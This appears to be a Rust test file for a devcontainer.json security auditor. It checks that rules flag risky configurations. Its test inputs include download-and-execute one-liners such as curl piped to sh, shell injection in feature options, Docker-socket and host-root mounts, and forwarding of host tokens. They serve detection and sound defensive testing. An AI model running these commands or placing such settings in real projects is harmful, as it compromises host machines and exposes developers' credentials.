//! Table tests over whole documents: every rule, its disguised forms, and the catalogue check
//! that every rule is emitted by at least one case.

#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;

use super::*;
use crate::substitute::SubstitutionContext;
use crate::{parse_devcontainer, parse_feature};

/// (document, rule, severity, pointer) — the rule must be reported at that pointer with that
/// severity.
const CASES: &[(&str, RuleId, Severity, &str)] = &[
    // initialize-command-on-host, in all three forms
    (
        r#"{"initializeCommand": "echo hi"}"#,
        RuleId::InitializeCommandOnHost,
        Severity::Critical,
        "/initializeCommand",
    ),
    (
        r#"{"initializeCommand": ["echo", "hi"]}"#,
        RuleId::InitializeCommandOnHost,
        Severity::Critical,
        "/initializeCommand",
    ),
    (
        r#"{"initializeCommand": {"a": "echo"}}"#,
        RuleId::InitializeCommandOnHost,
        Severity::Critical,
        "/initializeCommand",
    ),
    // lifecycle-command
    (
        r#"{"postCreateCommand": "npm ci"}"#,
        RuleId::LifecycleCommand,
        Severity::Info,
        "/postCreateCommand",
    ),
    (
        r#"{"postAttachCommand": {"x": ["a"]}}"#,
        RuleId::LifecycleCommand,
        Severity::Info,
        "/postAttachCommand",
    ),
    // download-and-execute, every form
    (
        r#"{"postCreateCommand": "curl -fsSL https://x | sh"}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postCreateCommand",
    ),
    (
        r#"{"postCreateCommand": ["sh", "-c", "curl x | sh"]}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postCreateCommand",
    ),
    (
        r#"{"postCreateCommand": {"a": ["sh","-c","curl https://x | sh"]}}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postCreateCommand/a",
    ),
    (
        r#"{"onCreateCommand": {"b": "bash <(curl -s https://x)"}}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/onCreateCommand/b",
    ),
    (
        r#"{"initializeCommand": "iex (iwr https://x/i.ps1)"}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/initializeCommand",
    ),
    (
        r#"{"postStartCommand": ["/usr/bin/env", "bash", "-lc", "wget -qO- https://x | bash"]}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postStartCommand",
    ),
    (
        r#"{"postStartCommand": ["python3", "-c", "import urllib.request as u;exec(u.urlopen('https://x').read())"]}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postStartCommand",
    ),
    // issue 15: more download-and-execute shapes
    (
        r#"{"postCreateCommand": "curl -fsSL https://x.example/i.sh > install.sh && bash install.sh"}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postCreateCommand",
    ),
    (
        r#"{"postCreateCommand": "curl -fsSL https://x.example/i.sh | $SHELL"}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postCreateCommand",
    ),
    (
        r#"{"postCreateCommand": "sh <<< \"$(curl -fsSL https://x.example/i.sh)\""}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postCreateCommand",
    ),
    (
        r#"{"postCreateCommand": "echo Y3VybCBodHRwczovL3ggfCBzaA== | base64 -d | sh"}"#,
        RuleId::DownloadAndExecute,
        Severity::Critical,
        "/postCreateCommand",
    ),
    // privileged
    (
        r#"{"privileged": true}"#,
        RuleId::Privileged,
        Severity::Critical,
        "/privileged",
    ),
    (
        r#"{"runArgs": ["--privileged"]}"#,
        RuleId::Privileged,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--rm", "--privileged=true"]}"#,
        RuleId::Privileged,
        Severity::Critical,
        "/runArgs/1",
    ),
    (
        r#"{"privileged": false, "privileged": true}"#,
        RuleId::Privileged,
        Severity::Critical,
        "/privileged",
    ),
    (
        r#"{"privil\u0065ged": true}"#,
        RuleId::Privileged,
        Severity::Critical,
        "/privileged",
    ),
    // capability
    (
        r#"{"capAdd": ["SYS_PTRACE"]}"#,
        RuleId::Capability,
        Severity::High,
        "/capAdd/0",
    ),
    (
        r#"{"capAdd": ["NET_RAW"]}"#,
        RuleId::Capability,
        Severity::Medium,
        "/capAdd/0",
    ),
    (
        r#"{"runArgs": ["--cap-add=sys_admin"]}"#,
        RuleId::Capability,
        Severity::High,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--cap-add", "ALL"]}"#,
        RuleId::Capability,
        Severity::High,
        "/runArgs/0",
    ),
    (
        r#"{"capAdd": ["cap_dac_read_search"]}"#,
        RuleId::Capability,
        Severity::High,
        "/capAdd/0",
    ),
    // host-namespace
    (
        r#"{"runArgs": ["--net=host"]}"#,
        RuleId::HostNamespace,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--network", "host"]}"#,
        RuleId::HostNamespace,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--pid=host"]}"#,
        RuleId::HostNamespace,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--userns=host"]}"#,
        RuleId::HostNamespace,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--ipc", "host"]}"#,
        RuleId::HostNamespace,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"build": {"dockerfile": "D", "options": ["--network=host"]}}"#,
        RuleId::HostNamespace,
        Severity::Medium,
        "/build/options/0",
    ),
    // unconfined-security
    (
        r#"{"securityOpt": ["seccomp=unconfined"]}"#,
        RuleId::UnconfinedSecurity,
        Severity::High,
        "/securityOpt/0",
    ),
    (
        r#"{"runArgs": ["--security-opt", "apparmor=unconfined"]}"#,
        RuleId::UnconfinedSecurity,
        Severity::High,
        "/runArgs/0",
    ),
    (
        r#"{"securityOpt": ["label=disable"]}"#,
        RuleId::UnconfinedSecurity,
        Severity::High,
        "/securityOpt/0",
    ),
    // container-socket-mount, disguised
    (
        r#"{"mounts": ["source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["src=/run/docker.sock,dst=/x,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["type=bind,source=/var/run,target=/r"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=//var/run/../run/docker.sock,target=/x,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["\"source=/var/run/docker.sock\",target=/x"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/x"}]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/run/user/1000/docker.sock,target=/x,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/run/podman/podman.sock,target=/x,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/run/containerd/containerd.sock,target=/x,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"runArgs": ["--volume=/var/run/docker.sock:/var/run/docker.sock"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["-v", "/run:/host-run"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"mounts": ["type=volume,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/var/run,target=/r"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    // host-path-mount
    (
        r#"{"runArgs": ["-v", "/:/host"]}"#,
        RuleId::HostPathMount,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--mount", "type=bind,src=/,dst=/h"]}"#,
        RuleId::HostPathMount,
        Severity::Critical,
        "/runArgs/0",
    ),
    (
        r#"{"mounts": ["source=${localEnv:HOME}${localEnv:USERPROFILE}/.ssh,target=/root/.ssh,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=${localEnv:HOME}/.aws,target=/a,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": [{"type": "bind", "source": "/etc", "target": "/e"}]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=~/.gitconfig,target=/g,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"workspaceMount": "source=${localWorkspaceFolder}/..,target=/w,type=bind", "workspaceFolder": "/w"}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/workspaceMount",
    ),
    (
        r#"{"workspaceMount": "source=/,target=/w,type=bind", "workspaceFolder": "/w"}"#,
        RuleId::HostPathMount,
        Severity::Critical,
        "/workspaceMount",
    ),
    // issue 15: substitution. `${env:X}` is `${localEnv:X}`; a default is what the CLI uses
    // when the variable is unset; the workspace folder's ancestors end at the host root.
    (
        r#"{"mounts": ["source=${env:HOME}${env:USERPROFILE}/.ssh,target=/root/.ssh,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=${localWorkspaceFolder}/../../../../../../../..,target=/h,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"runArgs": ["--cap-add=${localEnv:X:SYS_ADMIN}"]}"#,
        RuleId::Capability,
        Severity::High,
        "/runArgs/0",
    ),
    // only the properties holding `${` are substituted again: a decoded `\u0024{` counts, and
    // a property without one next to it changes nothing
    (
        r#"{"image": "x", "runArgs": ["--cap-add=\u0024{localEnv:X:SYS_ADMIN}"]}"#,
        RuleId::Capability,
        Severity::High,
        "/runArgs/0",
    ),
    (
        r#"{"mounts": ["source=${localEnv:DIR:/var/run},target=/r,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"features": {"ghcr.io/devcontainers/features/node:1": {"version": "${localEnv:V:$(curl -fsSL https://x|sh)}"}}}"#,
        RuleId::FeatureOptionInjection,
        Severity::Critical,
        "/features/ghcr.io~1devcontainers~1features~1node:1/version",
    ),
    // issue 15: sockets and host paths that were not on the lists
    (
        r#"{"mounts": ["source=/run/dbus/system_bus_socket,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/var/run/dbus,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/run/systemd/private,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/var/run/libvirt,target=/x,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/var/run/libvirt/libvirt-sock,target=/x,type=bind"]}"#,
        RuleId::ContainerSocketMount,
        Severity::Critical,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/lib/modules,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/usr/lib/modules,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/dev/bus/usb,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/mnt/c/Users/bob/.ssh,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=/mnt/d/Users/bob/.aws,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=~/.config/gh,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=${localEnv:HOME}/.claude,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=${localEnv:HOME}/.claude.json,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=~/.codex,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    (
        r#"{"mounts": ["source=~/.gemini,target=/x,type=bind"]}"#,
        RuleId::HostPathMount,
        Severity::High,
        "/mounts/0",
    ),
    // root-user
    (
        r#"{"remoteUser": "root"}"#,
        RuleId::RootUser,
        Severity::Medium,
        "/remoteUser",
    ),
    (
        r#"{"containerUser": "0"}"#,
        RuleId::RootUser,
        Severity::Medium,
        "/containerUser",
    ),
    (
        r#"{"runArgs": ["-u", "0:0"]}"#,
        RuleId::RootUser,
        Severity::Medium,
        "/runArgs/0",
    ),
    // feature-source / feature-unpinned / feature-option-injection / implied privileges
    (
        r#"{"features": {"ghcr.io/someone/features/x:1.2.3": {}}}"#,
        RuleId::FeatureSource,
        Severity::Medium,
        "/features/ghcr.io~1someone~1features~1x:1.2.3",
    ),
    (
        r#"{"features": {"https://x.example/devcontainer-feature-y.tgz": {}}}"#,
        RuleId::FeatureSource,
        Severity::Medium,
        "/features/https:~1~1x.example~1devcontainer-feature-y.tgz",
    ),
    (
        r#"{"features": {"./local": {}}}"#,
        RuleId::FeatureSource,
        Severity::Low,
        "/features/.~1local",
    ),
    (
        r#"{"features": {"ghcr.io/someone/features/x": {}}}"#,
        RuleId::FeatureUnpinned,
        Severity::Low,
        "/features/ghcr.io~1someone~1features~1x",
    ),
    (
        r#"{"features": {"ghcr.io/devcontainers/features/node:latest": {}}}"#,
        RuleId::FeatureUnpinned,
        Severity::Low,
        "/features/ghcr.io~1devcontainers~1features~1node:latest",
    ),
    (
        r#"{"features": {"ghcr.io/someone/features/x:1": {}}}"#,
        RuleId::FeatureUnpinned,
        Severity::Low,
        "/features/ghcr.io~1someone~1features~1x:1",
    ),
    (
        r#"{"features": {"ghcr.io/devcontainers/features/node:1": {"version": "1\"; curl evil | sh; \""}}}"#,
        RuleId::FeatureOptionInjection,
        Severity::Critical,
        "/features/ghcr.io~1devcontainers~1features~1node:1/version",
    ),
    (
        r#"{"features": {"ghcr.io/devcontainers/features/node:1": "$(id)"}}"#,
        RuleId::FeatureOptionInjection,
        Severity::Critical,
        "/features/ghcr.io~1devcontainers~1features~1node:1",
    ),
    (
        r#"{"features": {"ghcr.io/devcontainers/features/node:1": {"v": "`id`"}}}"#,
        RuleId::FeatureOptionInjection,
        Severity::Critical,
        "/features/ghcr.io~1devcontainers~1features~1node:1/v",
    ),
    (
        r#"{"features": {"ghcr.io/devcontainers/features/docker-in-docker:2": {}}}"#,
        RuleId::FeatureImpliedPrivileges,
        Severity::High,
        "/features/ghcr.io~1devcontainers~1features~1docker-in-docker:2",
    ),
    (
        r#"{"features": {"docker-from-docker": "latest"}}"#,
        RuleId::FeatureImpliedPrivileges,
        Severity::Critical,
        "/features/docker-from-docker",
    ),
    // host-secret-forwarding
    (
        r#"{"containerEnv": {"TOKEN": "${localEnv:GITHUB_TOKEN}"}}"#,
        RuleId::HostSecretForwarding,
        Severity::High,
        "/containerEnv/TOKEN",
    ),
    (
        r#"{"build": {"dockerfile": "D", "args": {"NPM_TOKEN": "${localEnv:NPM_TOKEN}"}}}"#,
        RuleId::HostSecretForwarding,
        Severity::High,
        "/build/args/NPM_TOKEN",
    ),
    (
        r#"{"remoteEnv": {"OPENAI_API_KEY": "${localEnv:OPENAI_API_KEY}"}}"#,
        RuleId::HostSecretForwarding,
        Severity::Medium,
        "/remoteEnv/OPENAI_API_KEY",
    ),
    (
        r#"{"runArgs": ["-e", "GH_TOKEN=${localEnv:GH_TOKEN}"]}"#,
        RuleId::HostSecretForwarding,
        Severity::High,
        "/runArgs/0",
    ),
    (
        r#"{"mounts": ["source=${localEnv:SSH_AUTH_SOCK},target=/ssh-agent,type=bind"]}"#,
        RuleId::HostSecretForwarding,
        Severity::High,
        "/mounts/0",
    ),
    // issue 15: `-e NAME` without a value copies the host's value; a host secret inside a
    // lifecycle command goes wherever the command sends it
    (
        r#"{"runArgs": ["-e", "GITHUB_TOKEN"]}"#,
        RuleId::HostSecretForwarding,
        Severity::High,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--env=NPM_TOKEN"]}"#,
        RuleId::HostSecretForwarding,
        Severity::High,
        "/runArgs/0",
    ),
    (
        r#"{"postCreateCommand": "curl -H \"Authorization: token ${localEnv:GITHUB_TOKEN}\" https://x.example/upload"}"#,
        RuleId::HostSecretForwarding,
        Severity::High,
        "/postCreateCommand",
    ),
    (
        r#"{"initializeCommand": ["sh", "-c", "echo ${env:AWS_SECRET_ACCESS_KEY} > x"]}"#,
        RuleId::HostSecretForwarding,
        Severity::High,
        "/initializeCommand",
    ),
    // dangerous-environment
    (
        r#"{"containerEnv": {"LD_PRELOAD": "/tmp/x.so"}}"#,
        RuleId::DangerousEnvironment,
        Severity::Medium,
        "/containerEnv/LD_PRELOAD",
    ),
    (
        r#"{"remoteEnv": {"BASH_ENV": "/w/x"}}"#,
        RuleId::DangerousEnvironment,
        Severity::Medium,
        "/remoteEnv/BASH_ENV",
    ),
    (
        r#"{"remoteEnv": {"NODE_OPTIONS": "--require /w/x.js"}}"#,
        RuleId::DangerousEnvironment,
        Severity::Medium,
        "/remoteEnv/NODE_OPTIONS",
    ),
    (
        r#"{"runArgs": ["--env", "PROMPT_COMMAND=x"]}"#,
        RuleId::DangerousEnvironment,
        Severity::Medium,
        "/runArgs/0",
    ),
    (
        r#"{"secrets": {"LD_PRELOAD": {}}}"#,
        RuleId::DangerousEnvironment,
        Severity::Medium,
        "/secrets/LD_PRELOAD",
    ),
    // repository-permissions
    (
        r#"{"customizations": {"codespaces": {"repositories": {"o/r": {"permissions": {"contents": "write"}}}}}}"#,
        RuleId::RepositoryPermissions,
        Severity::Medium,
        "/customizations/codespaces/repositories/o~1r",
    ),
    (
        r#"{"customizations": {"codespaces": {"repositories": {"o/r": {"permissions": "write-all"}}}}}"#,
        RuleId::RepositoryPermissions,
        Severity::High,
        "/customizations/codespaces/repositories/o~1r",
    ),
    (
        r#"{"customizations": {"codespaces": {"repositories": {"o/*": {"permissions": {"issues": "write"}}}}}}"#,
        RuleId::RepositoryPermissions,
        Severity::High,
        "/customizations/codespaces/repositories/o~1*",
    ),
    (
        r#"{"customizations": {"codespaces": {"repositories": {"o/r": {"permissions": {"workflows": "write"}}}}}}"#,
        RuleId::RepositoryPermissions,
        Severity::High,
        "/customizations/codespaces/repositories/o~1r",
    ),
    // extension-source
    (
        r#"{"customizations": {"vscode": {"extensions": ["/tmp/x.vsix"]}}}"#,
        RuleId::ExtensionSource,
        Severity::Medium,
        "/customizations/vscode/extensions/0",
    ),
    (
        r#"{"customizations": {"vscode": {"extensions": ["ms\u2011python.python"]}}}"#,
        RuleId::ExtensionSource,
        Severity::Medium,
        "/customizations/vscode/extensions/0",
    ),
    (
        r#"{"customizations": {"vscode": {"extensions": ["ms-pyhton.python"]}}}"#,
        RuleId::ExtensionSource,
        Severity::Medium,
        "/customizations/vscode/extensions/0",
    ),
    (
        r#"{"extensions": ["-githb.copilot"]}"#,
        RuleId::ExtensionSource,
        Severity::Medium,
        "/extensions/0",
    ),
    // app-port-all-interfaces
    (
        r#"{"appPort": "8080:80"}"#,
        RuleId::AppPortAllInterfaces,
        Severity::Medium,
        "/appPort",
    ),
    (
        r#"{"appPort": ["0.0.0.0:2375:2375", 3000]}"#,
        RuleId::AppPortAllInterfaces,
        Severity::Medium,
        "/appPort/0",
    ),
    (
        r#"{"runArgs": ["-p", "2222:22"]}"#,
        RuleId::AppPortAllInterfaces,
        Severity::Medium,
        "/runArgs/0",
    ),
    // duplicate-key
    (
        r#"{"privileged": false, "privileged": true}"#,
        RuleId::DuplicateKey,
        Severity::Medium,
        "/privileged",
    ),
    (
        r#"{"containerEnv": {"A": "1", "A": "2"}}"#,
        RuleId::DuplicateKey,
        Severity::Medium,
        "/containerEnv/A",
    ),
    // unknown-property
    (
        r#"{"postCreateCommmand": "x"}"#,
        RuleId::UnknownProperty,
        Severity::Low,
        "/postCreateCommmand",
    ),
    (
        r#"{"Privileged": true}"#,
        RuleId::UnknownProperty,
        Severity::Low,
        "/Privileged",
    ),
    (
        r#"{"__proto__": {"privileged": true}}"#,
        RuleId::UnknownProperty,
        Severity::Low,
        "/__proto__",
    ),
    (
        r#"{"customizations": {"vscode": {"postCreateCommand": "x"}}}"#,
        RuleId::UnknownProperty,
        Severity::Low,
        "/customizations/vscode/postCreateCommand",
    ),
    // embedded-credential
    (
        r#"{"containerEnv": {"GITHUB_TOKEN": "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5"}}"#,
        RuleId::EmbeddedCredential,
        Severity::Critical,
        "/containerEnv/GITHUB_TOKEN",
    ),
    (
        r#"{"postCreateCommand": "git clone https://bob:hunter2pass@example.com/r.git"}"#,
        RuleId::EmbeddedCredential,
        Severity::Critical,
        "/postCreateCommand",
    ),
    (
        r#"{"build": {"dockerfile": "D", "args": {"AWS_KEY": "AKIAIOSFODNN7EXAMPLE"}}}"#,
        RuleId::EmbeddedCredential,
        Severity::Critical,
        "/build/args/AWS_KEY",
    ),
    (
        r#"{"remoteEnv": {"DB_PASSWORD": "Xk9vQ2mZ7pL4wR8tY1uB6nC3"}}"#,
        RuleId::EmbeddedCredential,
        Severity::Critical,
        "/remoteEnv/DB_PASSWORD",
    ),
    // a credential used as a key: the finding points at the object holding it, so the pointer
    // does not spell the secret (found by the audit property test)
    (
        r#"{"image": "x", "containerEnv": {"ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5": "1"}}"#,
        RuleId::EmbeddedCredential,
        Severity::Critical,
        "/containerEnv",
    ),
    // extra rules
    (
        r#"{"portsAttributes": {"80": {"elevateIfNeeded": true}}}"#,
        RuleId::ElevateIfNeeded,
        Severity::Low,
        "/portsAttributes/80/elevateIfNeeded",
    ),
    (
        r#"{"runArgs": ["--device=/dev/kvm"]}"#,
        RuleId::HostDevice,
        Severity::Medium,
        "/runArgs/0",
    ),
    // issue 15: a device cgroup rule opens devices without naming them; `-P` publishes every
    // exposed port on every interface
    (
        r#"{"runArgs": ["--device-cgroup-rule=a *:* rwm"]}"#,
        RuleId::HostDevice,
        Severity::High,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--device-cgroup-rule", "c 189:* rmw"]}"#,
        RuleId::HostDevice,
        Severity::Medium,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--init", "-P"]}"#,
        RuleId::AppPortAllInterfaces,
        Severity::Medium,
        "/runArgs/1",
    ),
    (
        r#"{"runArgs": ["-itP"]}"#,
        RuleId::AppPortAllInterfaces,
        Severity::Medium,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--publish-all"]}"#,
        RuleId::AppPortAllInterfaces,
        Severity::Medium,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--gpus", "all"]}"#,
        RuleId::HostDevice,
        Severity::Low,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--env-file", "../.env"]}"#,
        RuleId::HostEnvFile,
        Severity::Medium,
        "/runArgs/0",
    ),
    // issue 15: an env file named through a host variable is outside the workspace
    (
        r#"{"runArgs": ["--env-file=${localWorkspaceFolder}/.env"]}"#,
        RuleId::HostEnvFile,
        Severity::Low,
        "/runArgs/0",
    ),
    (
        r#"{"runArgs": ["--env-file", "${localEnv:HOME}/.env"]}"#,
        RuleId::HostEnvFile,
        Severity::Medium,
        "/runArgs/0",
    ),
    (
        r#"{"dockerComposeFile": "compose.yml", "service": "app", "workspaceFolder": "/w"}"#,
        RuleId::ComposeNotAudited,
        Severity::Info,
        "/dockerComposeFile",
    ),
];

fn run(doc: &str) -> Vec<Finding> {
    audit(&parse_devcontainer(doc), &AuditContext::default())
}

#[test]
fn table() {
    for (doc, rule, severity, pointer) in CASES {
        let findings = run(doc);
        assert!(
            findings
                .iter()
                .any(|f| f.rule == *rule && f.severity == *severity && f.pointer == *pointer),
            "expected {rule} {severity} at {pointer} for {doc}\ngot: {findings:#?}"
        );
    }
}

#[test]
fn every_rule_is_emitted_by_some_case() {
    let emitted: BTreeSet<RuleId> = CASES.iter().map(|(_, r, _, _)| *r).collect();
    for rule in RULES {
        assert!(
            emitted.contains(&rule.id),
            "rule {} is never emitted",
            rule.id
        );
    }
}

#[test]
fn harmless_documents_have_no_findings_above_info() {
    for doc in [
        r#"{"image": "mcr.microsoft.com/devcontainers/base:ubuntu"}"#,
        r#"{"image": "x", "features": {"ghcr.io/devcontainers/features/node:1": {"version": "lts"}}}"#,
        r#"{"image": "x", "mounts": ["source=node_modules,target=/w/node_modules,type=volume"]}"#,
        r#"{"image": "x", "mounts": ["source=${localWorkspaceFolder}/.cache,target=/c,type=bind"]}"#,
        r#"{"image": "x", "remoteUser": "vscode", "appPort": 3000, "forwardPorts": [3000]}"#,
        r#"{"image": "x", "appPort": "127.0.0.1:8080:80"}"#,
        r#"{"image": "x", "containerEnv": {"NODE_ENV": "development", "HOME_DIR": "${localEnv:HOME}"}}"#,
        r#"{"image": "x", "runArgs": ["--init", "--add-host=host.docker.internal:host-gateway"]}"#,
        r#"{"image": "x", "customizations": {"vscode": {"extensions": ["ms-python.python@2024.1.0"], "settings": {}}}}"#,
        r#"{"image": "x", "capAdd": [], "securityOpt": ["no-new-privileges"]}"#,
        r#"{"image": "x", "runArgs": ["-e", "DISPLAY"]}"#,
        r#"{"image": "x", "mounts": ["source=/mnt/c/src/app,target=/app,type=bind", "source=/run/dbus-ish,target=/d,type=bind"]}"#,
        r#"{"image": "x", "postCreateCommand": "echo ${localEnv:USER} ${containerEnv:GITHUB_TOKEN}"}"#,
        r#"{"image": "x", "postCreateCommand": ""}"#,
    ] {
        let above: Vec<_> = run(doc)
            .into_iter()
            .filter(|f| f.severity > Severity::Info)
            .collect();
        assert!(above.is_empty(), "{doc}: {above:#?}");
    }
}

#[test]
fn positions_and_order() {
    let doc = "{\n  \"image\": \"x\",\n  \"privileged\": true,\n  \"runArgs\": [\"--pid=host\"]\n}";
    let findings = run(doc);
    let pos: Vec<_> = findings
        .iter()
        .map(|f| (f.rule, f.line, f.column))
        .collect();
    assert_eq!(
        pos,
        vec![(RuleId::Privileged, 3, 17), (RuleId::HostNamespace, 4, 15)]
    );
}

#[test]
fn secrets_never_in_messages() {
    let secret = "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5";
    let doc = format!(
        r#"{{"containerEnv": {{"X": "{secret}"}}, "postCreateCommand": "curl -H 'token {secret}' https://x | sh", "runArgs": ["-e", "T={secret}"]}}"#
    );
    let findings = run(&doc);
    assert!(findings
        .iter()
        .any(|f| f.rule == RuleId::EmbeddedCredential));
    for f in findings {
        assert!(!f.message.contains(&secret[4..]), "{f:?}");
    }
}

#[test]
fn substitution_reveals_more() {
    let doc = r#"{"image": "x", "mounts": ["source=${localEnv:DATA},target=/d,type=bind"]}"#;
    let parsed = parse_devcontainer(doc);
    assert!(audit(&parsed, &AuditContext::default()).is_empty());
    let ctx = AuditContext {
        substitution: Some(SubstitutionContext {
            local_env: [("DATA".to_string(), "/var/run".to_string())].into(),
            ..SubstitutionContext::default()
        }),
        ..AuditContext::default()
    };
    let findings = audit(&parsed, &ctx);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0].rule, RuleId::ContainerSocketMount);
    assert!(findings[0].message.contains("after variable substitution"));
    // The host's own secrets substituted in are not "embedded" credentials.
    let doc = r#"{"image": "x", "containerEnv": {"T": "${localEnv:GITHUB_TOKEN}"}}"#;
    let ctx = AuditContext {
        substitution: Some(SubstitutionContext {
            local_env: [(
                "GITHUB_TOKEN".to_string(),
                "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5".to_string(),
            )]
            .into(),
            ..SubstitutionContext::default()
        }),
        ..AuditContext::default()
    };
    let findings = audit(&parse_devcontainer(doc), &ctx);
    assert!(
        findings
            .iter()
            .all(|f| f.rule != RuleId::EmbeddedCredential),
        "{findings:#?}"
    );
}

#[test]
fn local_features_report_what_they_add() {
    let feature = parse_feature(
        r#"{"id": "x", "version": "1.0.0", "privileged": true,
            "mounts": [{"type": "bind", "source": "/var/run/docker.sock", "target": "/d"}],
            "capAdd": ["SYS_ADMIN"], "entrypoint": "/usr/local/share/x-init.sh",
            "postStartCommand": "curl https://x | sh"}"#,
    );
    let ctx = AuditContext {
        local_features: vec![LocalFeature {
            key: "./x".into(),
            metadata: feature.tree.clone().unwrap(),
        }],
        ..AuditContext::default()
    };
    let parsed = parse_devcontainer(r#"{"image": "i", "features": {"./x": {}}}"#);
    let findings = audit(&parsed, &ctx);
    for rule in [
        RuleId::Privileged,
        RuleId::ContainerSocketMount,
        RuleId::Capability,
        RuleId::LifecycleCommand,
        RuleId::DownloadAndExecute,
    ] {
        let f = findings
            .iter()
            .find(|f| f.rule == rule)
